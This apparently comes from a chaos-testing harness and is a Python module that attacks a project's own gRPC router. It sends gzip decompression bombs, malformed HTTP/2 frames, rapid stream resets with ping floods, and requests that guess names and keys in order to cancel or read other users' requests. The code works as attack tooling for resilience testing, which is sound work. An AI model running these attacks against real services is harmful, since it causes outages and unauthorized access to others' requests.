"""Attacks over gRPC, at the port of the routers."""

from __future__ import annotations

import asyncio
import contextlib
import gzip
from collections.abc import AsyncIterator
from typing import Final

from kvloom.v1 import router_service_pb2 as router
from lab.chaos.attackers import http2
from lab.chaos.attackers.targets import ATTACKER_HOST, GUESSED_KEY, Attack, Stream, connection, read_all

_BOMB: Final = gzip.compress(b"\x00" * 64_000_000, 9)
"""64 kB that inflate to 64 MB."""
_NUM_BOMBS: Final = 16
_NUM_GARBAGE: Final = 60
_NUM_RESETS: Final = 400
_NUM_NAMES: Final = 100
_ANSWER_SECONDS: Final = 3.0
_METHODS: Final = ("Generate", "Resume", "Connect", "Plan", "Explain", "Cancel", "ListModels")


@contextlib.asynccontextmanager
async def _channel(attack: Attack) -> AsyncIterator[Stream]:
    """An HTTP/2 connection."""
    async with connection(attack.targets.router_address) as (reader, writer):
        writer.write(http2.PREFACE + http2.SETTINGS_ACK)
        yield reader, writer


async def compressed_messages(attack: Attack) -> None:
    """Messages that inflate to a thousand times their size."""
    async with _channel(attack) as (reader, writer):
        for i in range(_NUM_BOMBS):
            stream = 2 * i + 1
            writer.write(http2.call_headers(stream, "Generate", host=ATTACKER_HOST, encoding="gzip"))
            for piece in http2.call_message(stream, _BOMB, compressed=True):
                writer.write(piece)
                await writer.drain()
        attack.note("sent", _NUM_BOMBS)
        await read_all(reader, _ANSWER_SECONDS)


async def malformed_messages(attack: Attack) -> None:
    """Bytes that are no message, in calls of every method, and frames that are no HTTP/2."""
    async with _channel(attack) as (reader, writer):
        for i in range(_NUM_GARBAGE):
            stream = 2 * i + 1
            writer.write(http2.call_headers(stream, attack.rng.choice(_METHODS), host=ATTACKER_HOST))
            for piece in http2.call_message(stream, attack.rng.randbytes(attack.rng.choice((1, 30, 3000)))):
                writer.write(piece)
        await writer.drain()
        attack.note("sent", _NUM_GARBAGE)
        await read_all(reader, _ANSWER_SECONDS)
    async with _channel(attack) as (reader, writer):
        writer.write(b"\xff" * 100_000)
        attack.note("closed" if await read_all(reader, _ANSWER_SECONDS) >= 0 else "open")


async def rapid_resets(attack: Attack) -> None:
    """Calls that are reset as soon as they are opened, and pings without end."""
    async with _channel(attack) as (reader, writer):
        for i in range(_NUM_RESETS):
            stream = 2 * i + 1
            writer.write(http2.call_headers(stream, "Generate", host=ATTACKER_HOST) + http2.reset(stream))
            if i % 50 == 0:
                writer.write(http2.PING * 20)
                await writer.drain()
        attack.note("sent", _NUM_RESETS)
        await read_all(reader, _ANSWER_SECONDS)


async def guessed_names(attack: Attack) -> None:
    """Cancel and explain the users' requests by their names, and hold these names."""
    async with _channel(attack) as (reader, writer):
        for i in range(_NUM_NAMES):
            stream, name = 2 * i + 1, attack.targets.guessed_name(attack.rng)
            method, message = attack.rng.choice(
                (
                    ("Cancel", router.CancelRequest(request_id=name)),
                    ("Explain", router.ExplainRequest(request_id=name)),
                    ("Explain", router.ExplainRequest(client_request_id=name)),
                    ("Generate", router.GenerateRequest(model=attack.targets.model, text="x", request_id=name)),
                )
            )
            headers = http2.call_headers(
                stream, method, host=ATTACKER_HOST, authorization=f"Bearer {attack.targets.key or GUESSED_KEY}"
            )
            writer.write(headers + b"".join(http2.call_message(stream, message.SerializeToString())))
            await asyncio.sleep(0.01)
        attack.note("sent", _NUM_NAMES)
        await read_all(reader, _ANSWER_SECONDS)
